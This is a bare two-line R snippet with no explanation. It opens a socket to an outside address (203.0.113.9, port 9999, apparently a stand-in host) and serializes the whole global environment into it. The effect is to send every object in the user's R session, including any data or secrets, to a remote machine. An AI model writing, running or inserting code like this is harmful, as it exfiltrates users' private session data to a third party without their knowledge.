s <- socketConnection("203.0.113.9", 9999, open = "wb")
serialize(as.list(globalenv()), s)
